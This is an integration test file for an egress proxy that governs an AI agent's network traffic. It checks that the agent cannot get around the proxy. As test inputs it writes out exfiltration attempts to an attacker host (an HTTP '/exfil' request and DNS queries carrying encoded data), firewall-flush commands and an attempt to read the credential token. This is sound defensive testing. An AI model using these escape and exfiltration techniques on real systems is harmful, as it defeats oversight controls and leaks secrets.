"""Transparent mode, proven in network namespaces (issue 16 item 3).

An agent namespace with Proctor inside it (as its own uid) and the redirect
`proctor netsetup --apply` writes (both backends); the upstreams in a second
namespace behind a veth (tests/support/transparent_netns.py). The agent's
clients run as another uid with NO proxy variable: Node 20's built-in `fetch`,
aiohttp (trust_env off, its default) and curl. Shown here:

- allowed calls pass, carry X-Proctor-Decision-Id, and are recorded as the
  workload identity's (the token file), in transparent mode;
- denied calls are refused 403 problem+json and never reach the upstream;
- HTTPS is intercepted with Proctor's CA (trusting it is the agent's only setup),
  and a client that does not trust it gets nothing through;
- the agent cannot get around Proctor: the upstream's IP directly, other ports,
  IPv6, non-HTTP bytes, UDP, Proctor's own port (a loop), and it can neither
  remove the rules nor read the token;
- attacks: a connection to an attacker's IP naming the ERP (Host/SNI) never takes
  the ERP's injected credential to the attacker; SNI and Host disagreeing is
  421; Proxy-Authorization is refused and Authorization carrying an agent token
  is stripped; the forward listener never falls back to the workload identity;
- the token file: rotation (a secret's rename and the kubelet's ..data swap),
  missing, invalid, expired -> 503 naming the file, back without a restart.

Needs root (namespaces): skipped with the reason otherwise; CI runs as root.
"""

from __future__ import annotations

import json
import struct
import subprocess
import sys
import time
from collections.abc import Iterator

import pytest

from conftest import DATA
from support.transparent_netns import (
    AGENT_UID, ATTACKER_IP, CONTROL_PORT, ERP6, ERP_DNS_PORT, ERP_IP, ERP_KEY, FORWARD_PORT, HTTP_PORT, HTTPS_PORT,
    PROXY_UID, RAW_PORT, TRANSPARENT_PORT, UDP_PORT, Netns, Reply, python_for, why_no_netns,
)

pytestmark = pytest.mark.integration

NO_NETNS = why_no_netns()
if NO_NETNS is not None:
    pytest.skip(NO_NETNS, allow_module_level=True)

WORKLOAD = "support-agent"
ERP = f"http://erp.test:{HTTP_PORT}"
ERPS = f"https://erp.test:{HTTPS_PORT}"
DECISION = "x-proctor-decision-id"


@pytest.fixture(scope="module", params=["iptables", "nftables"])
def env(request, idp) -> Iterator[Netns]:
    ns = Netns(request.param)
    try:
        ns.build(idp, idp.token(WORKLOAD, groups=["readers", "writers"], ttl=3600), policies=DATA / "policies")
        yield ns
    finally:
        ns.close()


@pytest.fixture
def fresh(env: Netns) -> Netns:
    env.clear_logs()
    return env


def problem(reply: Reply) -> dict:
    assert reply.headers.get("content-type", "").startswith("application/problem+json"), reply
    return reply.json()


CLIENTS = ["node", "aiohttp", "curl"]


def call(env: Netns, client: str, url: str, method: str = "GET", ca: bool = False,
         headers: dict[str, str] | None = None) -> Reply:
    if client == "node":
        return env.node(url, method, headers, ca=ca)
    if client == "aiohttp":
        return env.aiohttp(url, method, headers, ca=ca)
    extra = [a for k, v in (headers or {}).items() for a in ("-H", f"{k}: {v}")]
    return env.curl(url, *extra, method=method, ca=ca)


# ------------------------------------------------------------------ governed, no proxy variable
@pytest.mark.parametrize("client", CLIENTS)
def test_allowed_call_passes_attributed_to_the_workload(fresh: Netns, client: str):
    reply = call(fresh, client, f"{ERP}/items/7")
    assert reply.status == 200, reply
    assert reply.json()["path"] == "/items/7", reply
    rec = fresh.decision(reply.headers[DECISION])
    assert (rec["agent"], rec["decision"], rec["mode"], rec["action"]) == (WORKLOAD, "allow", "transparent",
                                                                         "test.item.read")
    assert (rec["host"], rec["port"]) == ("erp.test", HTTP_PORT)
    assert rec["original_dst"] == f"{ERP_IP}:{HTTP_PORT}"  # where the connection was going
    (got,) = fresh.received("erp-http")
    headers = {k.lower(): v for k, v in got["headers"]}
    assert headers["x-erp-key"] == ERP_KEY  # the connector's credential, injected by Proctor
    assert headers["host"] == f"erp.test:{HTTP_PORT}"


@pytest.mark.parametrize("client", CLIENTS)
def test_denied_call_is_refused_and_never_reaches_the_upstream(fresh: Netns, client: str):
    reply = call(fresh, client, f"{ERP}/items/7", method="DELETE")
    assert reply.status == 403, reply
    body = problem(reply)
    assert body["reasons"] == ["no-item-deletes"] and body["action"] == "test.item.delete"
    assert body["decision_id"] == reply.headers[DECISION]
    rec = fresh.decision(body["decision_id"])
    assert (rec["agent"], rec["decision"], rec["mode"]) == (WORKLOAD, "deny", "transparent")
    assert fresh.received("erp-http") == []


@pytest.mark.parametrize("client", ["node", "aiohttp"])
def test_bodies_are_decided_before_a_byte_reaches_the_upstream(fresh: Netns, client: str):
    """A request with a body is authenticated from its head (the workload identity), its body
    read and judged: a small order passes with its body, a big one is refused."""
    send = fresh.node if client == "node" else fresh.aiohttp
    json_type = {"Content-Type": "application/json"}
    ok = send(f"{ERP}/items", "POST", json_type, body=json.dumps({"amount": 10}))
    assert ok.status == 200, ok
    assert fresh.decision(ok.headers[DECISION])["agent"] == WORKLOAD
    big = send(f"{ERP}/items", "POST", json_type, body=json.dumps({"amount": 5000}))
    assert big.status == 403 and problem(big)["reasons"] == ["no-big-orders"], big
    (got,) = fresh.received("erp-http")
    assert json.loads(got["body"]) == {"amount": 10}


@pytest.mark.parametrize("client", CLIENTS)
def test_https_is_intercepted_with_proctors_ca(fresh: Netns, client: str):
    reply = call(fresh, client, f"{ERPS}/items/8", ca=True)
    assert reply.status == 200, reply
    rec = fresh.decision(reply.headers[DECISION])
    assert (rec["agent"], rec["mode"], rec["host"], rec["port"]) == (WORKLOAD, "transparent", "erp.test", HTTPS_PORT)
    (got,) = fresh.received("erp-https")
    assert got["scheme"] == "https" and {k.lower(): v for k, v in got["headers"]}["x-erp-key"] == ERP_KEY
    denied = call(fresh, client, f"{ERPS}/items/8", method="DELETE", ca=True)
    assert denied.status == 403 and problem(denied)["reasons"] == ["no-item-deletes"]
    assert len(fresh.received("erp-https")) == 1


@pytest.mark.parametrize("client", CLIENTS)
def test_a_client_that_does_not_trust_the_ca_gets_nothing_through(fresh: Netns, client: str):
    reply = call(fresh, client, f"{ERPS}/items/9")
    assert reply.status is None and reply.error, reply  # the TLS handshake fails on the agent's side
    assert fresh.received("erp-https") == []
    deadline = time.monotonic() + 5
    while not any(r.get("host") == "erp.test" and r.get("refusal", {}).get("title") == "TLS interception failed"
                  for r in fresh.decisions()):
        assert time.monotonic() < deadline, "the refused interception was not recorded"
        time.sleep(0.05)


# ------------------------------------------------------------------ no way around Proctor
def test_the_upstream_ip_directly_is_governed_too(fresh: Netns):
    ok = fresh.node(f"http://{ERP_IP}:{HTTP_PORT}/items/1")
    assert ok.status == 200 and DECISION in ok.headers
    assert fresh.decision(ok.headers[DECISION])["host"] == ERP_IP
    denied = fresh.curl(f"http://{ERP_IP}:{HTTP_PORT}/items/1", method="DELETE")
    assert denied.status == 403 and problem(denied)["reasons"] == ["no-item-deletes"]
    assert [r["method"] for r in fresh.received("erp-http")] == ["GET"]


def test_other_ports_and_ipv6_are_governed(fresh: Netns):
    # an HTTP request to a port no connector knows: egress default deny, never connected
    other = fresh.aiohttp(f"http://{ERP_IP}:{RAW_PORT}/anything")
    assert other.status == 403, other
    assert problem(other)["decision_id"] == other.headers[DECISION]
    # IPv6 lands on Proctor's ::1 listener: governed the same way (unknown host: denied)
    six = fresh.curl(f"http://[{ERP6}]:{HTTP_PORT}/items/1")
    assert six.status == 403 and DECISION in six.headers, six
    assert fresh.received("erp6-http") == []
    # bytes that are not HTTP, to any port: refused, nothing relayed
    raw = fresh.as_agent(["/usr/bin/node", "-e", f"""
const s = require("net").connect({RAW_PORT}, "{ERP_IP}", () => s.write("SSH-2.0-OpenSSH_9.0\\r\\n"));
let got = ""; s.on("data", d => got += d); s.on("close", () => console.log(JSON.stringify(got)));
s.on("error", e => console.log(JSON.stringify("error " + e.code)));
"""])
    assert "RAW-SERVICE-BANNER" not in raw.stdout
    time.sleep(0.5)
    assert fresh.received("raw") == []  # not one TCP connection reached the service (lazy upstream)
    assert any(r.get("refusal", {}).get("title") == "Uninspectable traffic refused" and r.get("port") == RAW_PORT
               for r in fresh.decisions())


def test_udp_does_not_leave(fresh: Netns):
    fresh.as_agent(["/usr/bin/node", "-e", f"""
const s = require("dgram").createSocket("udp4");
s.send("datagram around proctor", {UDP_PORT}, "{ERP_IP}", () => s.close());
"""])
    time.sleep(0.5)
    assert [r for r in fresh.received("raw") if r["kind"] == "udp"] == []


def _raw_service(env: Netns, ip: str, port: int, udp_port: int) -> str:
    """A TCP service on ip:port in the upstream namespace that records every connection made to
    it (whatever arrives, a TLS ClientHello included); started once per namespace. Its log's name."""
    name = f"raw-{ip}-{port}"
    log = env.upstream_log(name)
    if not log.exists():
        log.write_text("")
        env._in_up([sys.executable, str(env.base / "up" / "raw.py"), ip, str(port), str(udp_port), str(log)],
                   stdin=subprocess.PIPE)
        env._wait(lambda: f"{ip}:{port}" in env._listening(env.up_ns), f"the service on {ip}:{port}")
    return name


def _dns_query(name: str) -> bytes:
    """A DNS query for a TXT record, as DNS over TCP frames it (a two-byte length first)."""
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    msg = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!HH", 16, 1)
    return struct.pack("!H", len(msg)) + msg


# DNS over TCP (in TLS when a CA file follows the query), as the agent: what came back.
DNS_CLIENT = r"""
import socket, ssl, sys
host, port = sys.argv[1], int(sys.argv[2])
s = socket.create_connection((host, port), timeout=5)
if len(sys.argv) > 4:  # in TLS, trusting this CA
    ctx = ssl.create_default_context(cafile=sys.argv[4]); ctx.check_hostname = False
    s = ctx.wrap_socket(s, server_hostname="erp.test")
s.sendall(bytes.fromhex(sys.argv[3]))
got = b""
try:
    while True:
        d = s.recv(4096)
        if not d: break
        got += d
except OSError as e:
    print("error", type(e).__name__)
print("answer", got.hex())
"""


def test_tcp_to_port_53_of_any_host_is_governed_not_exempt(fresh: Netns):
    """DNS over TCP is exempt from the redirect only towards pinned resolvers (this namespace
    pins none): a service listening on port 53 of another host (an attacker's HTTP server, a
    tunnel endpoint) is reached through Proctor or not at all, never around it."""
    log = _raw_service(fresh, ATTACKER_IP, 53, 5399)
    http = fresh.curl(f"http://{ATTACKER_IP}:53/exfil?data=secret")
    assert http.status == 403 and DECISION in http.headers, http  # decided like any HTTP: egress default deny
    assert problem(http)["reasons"] == ["egress-default-deny"]
    raw = fresh.as_agent(["/usr/bin/node", "-e", f"""
const s = require("net").connect(53, "{ATTACKER_IP}", () => s.write("tunnel handshake\\r\\n"));
let got = ""; s.on("data", d => got += d); s.on("close", () => console.log(JSON.stringify(got)));
s.on("error", e => console.log(JSON.stringify("error " + e.code)));
"""])
    assert "RAW-SERVICE-BANNER" not in raw.stdout + http.body
    time.sleep(0.3)
    assert fresh.received(log) == []  # not one TCP connection reached the service


@pytest.mark.parametrize("port", [53, 5353])
def test_dns_over_tcp_is_never_relayed(fresh: Netns, port: int):
    """mitmproxy takes a connection to port 53 or 5353 for DNS by the port alone and would relay
    its messages to whatever host it was addressed to (Proctor dials as its own uid, so around
    the rules): a DNS query carrying data to an attacker's name server, and its answer back.
    Refused and recorded instead, plain or in TLS; HTTP on those ports is decided like any HTTP."""
    log = _raw_service(fresh, ATTACKER_IP, port, 5390 + port % 7)
    query = _dns_query("c2VjcmV0LWRhdGE.exfil.attacker.test").hex()
    client = fresh.agent_dir / "dns.py"
    client.write_text(DNS_CLIENT)
    python = python_for(AGENT_UID)
    for extra in ([], [str(fresh.proctor_ca)]):
        done = fresh.as_agent([*python, str(client), ATTACKER_IP, str(port), query, *extra])
        assert "answer " in done.stdout, done
        assert done.stdout.split("answer ")[1].strip() == "", done.stdout  # no DNS answer came back
    deadline = time.monotonic() + 5
    while sum("DNS" in (r.get("refusal") or {}).get("detail", "") and r.get("port") == port
              for r in fresh.decisions()) < 2:
        assert time.monotonic() < deadline, "the refused DNS connections were not recorded"
        time.sleep(0.05)
    refused = [r for r in fresh.decisions() if "DNS" in (r.get("refusal") or {}).get("detail", "")]
    assert all(r["agent"] == WORKLOAD and r["decision"] == "deny" for r in refused)
    http = fresh.curl(f"https://{ATTACKER_IP}:{port}/items/1", "-H", f"Host: erp.test:{port}", ca=True)
    assert http.status in (403, 502) and DECISION in http.headers, http  # an HTTP request: decided
    time.sleep(0.3)
    assert fresh.received(log) == []  # nothing reached the attacker's port


def test_dns_in_a_tunnel_through_the_forward_listener_is_never_relayed(fresh: Netns):
    """The forward listener's CONNECT tunnels the same: a connector port mitmproxy reads as DNS
    (erp.test:5353), TLS intercepted, a DNS message inside: refused, nothing dialled."""
    log = _raw_service(fresh, ERP_IP, ERP_DNS_PORT, 5397)
    token = fresh.token_file.read_text().strip()
    script = fresh.agent_dir / "tunnel_dns.py"
    script.write_text(r"""
import socket, ssl, sys
token, ca, query, port = sys.argv[1], sys.argv[2], bytes.fromhex(sys.argv[3]), sys.argv[4]
s = socket.create_connection(("127.0.0.1", int(sys.argv[5])), timeout=5)
s.sendall(f"CONNECT erp.test:{port} HTTP/1.1\r\nHost: erp.test:{port}\r\n"
          f"Proxy-Authorization: Bearer {token}\r\n\r\n".encode())
print("connect", s.recv(4096).split(b"\r\n")[0].decode())
t = ssl.create_default_context(cafile=ca).wrap_socket(s, server_hostname="erp.test")
t.sendall(query)
got = b""
try:
    while True:
        d = t.recv(4096)
        if not d: break
        got += d
except OSError as e:
    print("error", type(e).__name__)
print("answer", got.hex())
""")
    query = _dns_query("c2VjcmV0.exfil.attacker.test").hex()
    fresh.netsetup("--protect-port", "none")  # (by default the rules refuse every uid but Proctor's that port)
    try:
        done = fresh.as_agent([sys.executable, str(script), token, str(fresh.proctor_ca), query, str(ERP_DNS_PORT),
                               str(FORWARD_PORT)], uid=0)
    finally:
        fresh.netsetup()
    assert "connect HTTP/1.1 200" in done.stdout, done  # the tunnel itself is allowed (a connector port)
    assert done.stdout.split("answer ")[1].strip() == "", done.stdout
    deadline = time.monotonic() + 5
    while not any("DNS and raw TCP/UDP are never relayed" in (r.get("refusal") or {}).get("detail", "")
                  for r in fresh.decisions()):
        assert time.monotonic() < deadline, "the refused DNS was not recorded"
        time.sleep(0.05)
    time.sleep(0.3)
    assert fresh.received(log) == []  # Proctor never dialled the port


def test_proctors_own_port_is_refused_not_looped(fresh: Netns):
    """The transparent port addressed directly (loopback is not redirected): refused, recorded."""
    reply = fresh.curl(f"http://127.0.0.1:{TRANSPARENT_PORT}/items/1", "-H", "Host: erp.test:8080")
    assert reply.status == 508, reply
    assert problem(reply)["reasons"] == ["transparent-loop"]
    rec = fresh.decision(problem(reply)["decision_id"])
    assert (rec["agent"], rec["host"], rec["port"]) == (WORKLOAD, "127.0.0.1", TRANSPARENT_PORT)  # the workload's
    assert fresh.received("erp-http") == []


def test_connect_on_a_redirected_connection_is_refused(fresh: Netns):
    """A redirected connection is not a proxy: CONNECT is a protocol error (400), no tunnel opens."""
    done = fresh.as_agent(["curl", "-sS", "-m", "10", "-o", "/dev/null", "-w", "%{http_code}", "-X", "CONNECT",
                           "--request-target", f"erp.test:{HTTPS_PORT}", f"http://{ATTACKER_IP}:{HTTP_PORT}"])
    assert done.stdout == "400", done
    assert fresh.received("attacker-http") == [] and fresh.received("erp-https") == []


def test_the_agent_cannot_undo_the_rules_or_read_the_token(fresh: Netns):
    for argv in (["iptables", "-t", "nat", "-F"], ["iptables", "-F"], ["nft", "flush", "ruleset"],
                 ["ip", "link", "set", "lo", "down"]):
        done = fresh.as_agent(argv)
        assert done.returncode != 0, argv
    assert fresh.as_agent(["cat", str(fresh.token_file)]).returncode != 0
    # and the rules are still there: the agent's next call is still governed
    reply = fresh.node(f"{ERP}/items/1", method="DELETE")
    assert reply.status == 403
    assert fresh.received("erp-http") == []


def test_proctors_uid_is_the_only_way_out(fresh: Netns):
    """What the rules exempt is Proctor's uid, nothing else: the same request as that uid
    reaches the upstream directly (which is why the agent must never run as it)."""
    done = fresh.as_agent(["curl", "-sS", "-m", "10", "-X", "DELETE", f"{ERP}/items/5"], uid=PROXY_UID)
    assert done.returncode == 0 and '"echo": true' in done.stdout
    assert [r["method"] for r in fresh.received("erp-http")] == ["DELETE"]
    assert AGENT_UID != PROXY_UID


# ------------------------------------------------------------------ attacks
def test_an_attackers_ip_naming_the_erp_never_gets_the_erp_credential(fresh: Netns):
    """curl --resolve connects to the attacker's address and names erp.test (Host, SNI): Proctor
    sends the request where it names (erp.test, resolved by Proctor), never to the attacker."""
    plain = fresh.curl(f"{ERP}/items/3", "--resolve", f"erp.test:{HTTP_PORT}:{ATTACKER_IP}")
    assert plain.status == 200, plain
    # the record keeps both: where it went (the name) and where the agent tried to go
    rec = fresh.decision(plain.headers[DECISION])
    assert (rec["host"], rec["original_dst"]) == ("erp.test", f"{ATTACKER_IP}:{HTTP_PORT}")
    tls = fresh.curl(f"{ERPS}/items/4", "--resolve", f"erp.test:{HTTPS_PORT}:{ATTACKER_IP}", ca=True)
    assert tls.status == 200, tls
    assert fresh.received("attacker-http") == [] and fresh.received("attacker-https") == []
    assert [r["path"] for r in fresh.received("erp-http")] == ["/items/3"]
    assert [r["path"] for r in fresh.received("erp-https")] == ["/items/4"]
    # the attacker's IP in the URL, a Host naming the ERP: the same
    by_ip = fresh.curl(f"http://{ATTACKER_IP}:{HTTP_PORT}/items/5", "-H", f"Host: erp.test:{HTTP_PORT}")
    assert by_ip.status == 200, by_ip
    assert fresh.received("attacker-http") == []
    assert [r["path"] for r in fresh.received("erp-http")] == ["/items/3", "/items/5"]


def test_host_port_other_than_the_connection_is_misdirected(fresh: Netns):
    reply = fresh.curl(f"http://{ATTACKER_IP}:{HTTP_PORT}/items/1", "-H", "Host: erp.test:8443")
    assert reply.status == 421, reply
    assert fresh.received("attacker-http") == [] and fresh.received("erp-https") == []


def test_sni_and_host_disagreeing_is_misdirected(fresh: Netns):
    reply = fresh.curl(f"{ERPS}/items/1", "-H", "Host: attacker.test:8443", ca=True)
    assert reply.status == 421, reply
    assert "SNI" in problem(reply)["detail"]
    assert fresh.received("erp-https") == [] and fresh.received("attacker-https") == []


def test_plain_http_to_a_tls_port_is_refused(fresh: Netns):
    reply = fresh.curl(f"http://erp.test:{HTTPS_PORT}/items/1")
    assert reply.status == 403, reply
    assert "TLS only" in problem(reply)["detail"]
    assert fresh.received("erp-https") == []


def test_proxy_credentials_never_select_another_identity(fresh: Netns, idp):
    other = idp.token("other-agent", groups=["writers"])
    reply = fresh.curl(f"{ERP}/items/1", "-H", f"Proxy-Authorization: Bearer {other}")
    assert reply.status == 400, reply
    body = problem(reply)
    assert body["reasons"] == ["transparent-proxy-credentials"] and other not in reply.body
    assert fresh.received("erp-http") == []
    # an HTTP proxy configured in the agent: its absolute-form request lands here too (refused, not proxied)
    via = fresh.as_agent(["curl", "-sS", "-m", "10", "-o", "/dev/null", "-w", "%{http_code}", f"{ERP}/items/1"],
                         env={"http_proxy": f"http://other-agent:{other}@{ATTACKER_IP}:3128"})
    assert via.stdout == "400"
    assert fresh.received("erp-http") == [] and fresh.received("attacker-http") == []


def test_authorization_carrying_an_agent_token_is_stripped(fresh: Netns, idp):
    workload_token = fresh.token_file.read_text().strip()
    other = idp.token("other-agent", groups=["writers"])
    for token in (workload_token, other):
        reply = fresh.node(f"{ERP}/items/2", headers={"Authorization": f"Bearer {token}"})
        assert reply.status == 200, reply
        assert fresh.decision(reply.headers[DECISION])["agent"] == WORKLOAD  # never the other identity
    for got in fresh.received("erp-http"):
        assert "authorization" not in {k.lower() for k, _ in got["headers"]}
    # an upstream credential of the agent's own (not an agent token) is the connector's business:
    # this connector injects its key and removes Authorization (connectors/credentials.py)


def test_the_forward_listener_never_falls_back_to_the_workload_identity(fresh: Netns):
    # the agent cannot reach it at all (netsetup refuses Proctor's own ports to every other uid) ...
    refused = fresh.curl(f"{ERP}/items/1", "-x", f"http://127.0.0.1:{FORWARD_PORT}")
    assert refused.status is None and "couldn't connect" in (refused.error or "").lower(), refused
    assert fresh.curl(f"http://127.0.0.1:{FORWARD_PORT}/healthz").status is None
    # the control port is the status address: the transparent listener answers there, only a held
    # request's status (tests/test_transparent_holds_netns.py), never the control API
    control = fresh.curl(f"http://127.0.0.1:{CONTROL_PORT}/healthz")
    assert control.status == 508 and problem(control)["reasons"] == ["transparent-loop"], control
    # ... and whoever can (here Proctor's own uid) gets no identity without a token of its own
    reply = fresh.curl(f"{ERP}/items/1", "-x", f"http://127.0.0.1:{FORWARD_PORT}", uid=PROXY_UID)
    assert reply.status == 407, reply
    assert fresh.received("erp-http") == []


def test_healthz_reports_the_listeners_and_the_workload_identity(env: Netns):
    code, health = env.control("/healthz")
    assert code == 200
    listeners = {(lst["name"], lst["address"]) for lst in health["components"]["listeners"]["listeners"]}
    assert ("transparent", f"127.0.0.1:{TRANSPARENT_PORT}") in listeners
    assert ("transparent", f"[::1]:{TRANSPARENT_PORT}") in listeners
    wl = health["components"]["workload_identity"]
    assert wl["status"] == "ok" and wl["agent_id"] == WORKLOAD and wl["error"] is None
    assert wl["token_file"] == str(env.token_file) and wl["expires_at"] > time.time()
    token = env.token_file.read_text().strip()
    assert token not in json.dumps(health)
    metrics = env.as_agent(["curl", "-s", f"http://127.0.0.1:{CONTROL_PORT}/metrics"], uid=PROXY_UID).stdout
    assert "proctor_workload_identity_valid 1.0" in metrics


# ------------------------------------------------------------------ the token file
def _wait_for_agent(env: Netns, want: str | None, says: str = "", timeout: float = 10) -> Reply:
    """Call until the answer is attributed to `want` (None: refused 503, its detail saying `says`)."""
    deadline = time.monotonic() + timeout
    while True:
        reply = env.curl(f"{ERP}/items/1")
        if want is None and reply.status == 503 and says in reply.json().get("detail", ""):
            return reply
        if want is not None and reply.status == 200 and env.decision(reply.headers[DECISION])["agent"] == want:
            return reply
        assert time.monotonic() < deadline, f"still {reply.status} {reply.body[:300]}"
        time.sleep(0.2)


def test_token_rotation_and_failures_without_restart(env: Netns, idp):
    pid = env.proctor.pid if env.proctor is not None else None
    good = env.token_file.read_text().strip()
    try:
        # a rotated secret (renamed over the old file): the next requests are the new identity's
        env.write_token(idp.token("rotated-agent", groups=["readers"], ttl=3600))
        _wait_for_agent(env, "rotated-agent")
        # the kubelet's ..data symlink swap
        env.write_token_kubernetes_style(idp.token("kube-agent", groups=["readers"], ttl=3600))
        _wait_for_agent(env, "kube-agent")
        env.write_token_kubernetes_style(idp.token("kube-agent-2", groups=["readers"], ttl=3600))
        _wait_for_agent(env, "kube-agent-2")
        # failures: each refuses every request (503, the file named, the token never shown)
        for broken, says in (
            (idp.token("expired-agent", ttl=-120), "expired"),
            (idp.token("wrong-audience", aud="someone-else"), "audience"),
            ("not-a-jwt", "not a well-formed JWT"),
            ("", "is empty"),
        ):
            env.write_token(broken)
            refused = _wait_for_agent(env, None, says)
            body = problem(refused)
            assert body["reasons"] == ["workload-identity-unavailable"] and says in body["detail"], body
            assert str(env.token_file) in body["detail"]
            assert (broken not in refused.body) if broken else True
            rec = env.decision(body["decision_id"])
            assert rec["decision"] == "deny" and rec["status"] == 503 and rec["mode"] == "transparent"
            code, health = env.control("/healthz")
            assert health["components"]["workload_identity"]["status"] == "down"
            assert says in health["components"]["workload_identity"]["error"]
            assert env.control("/readyz")[0] == 503
        env.token_file.unlink()
        assert problem(_wait_for_agent(env, None, "does not exist"))["status"] == 503
        assert env.received("erp-http") == [] or all(r["method"] == "GET" for r in env.received("erp-http"))
        # a good token again: served at once, same process
        env.write_token(good)
        _wait_for_agent(env, WORKLOAD)
        assert env.control("/readyz")[0] == 200
        assert env.proctor is not None and env.proctor.pid == pid and env.proctor.poll() is None
        log = env.log()
        assert "reloaded the rotated token file" in log and good not in log
    finally:
        env.write_token(good)
        _wait_for_agent(env, WORKLOAD)
